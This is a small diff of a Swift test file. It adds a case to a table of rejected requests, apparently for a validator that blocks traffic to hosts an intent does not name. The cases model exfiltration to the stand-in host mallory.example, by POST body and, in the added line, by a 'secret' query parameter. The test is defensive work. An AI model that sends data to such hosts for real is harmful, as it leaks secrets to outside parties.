@@ -106,6 +106,7 @@ import Testing
         ),
         ([Node.request("a", "https://mallory.example/x", "POST", body: "d")], "a host that the intent does not name"),
         ([Node.request("a", "https://example/x", "POST", body: "d")], "a host that the intent does not name"),
+        ([Node.request("a", "https://mallory.example/x?secret=d")], "a host that the intent does not name"),
         ([Node.request("a", "https://mallory.example/x", "GET", body: "d")], "a host that the intent does not name"),
         (
             [
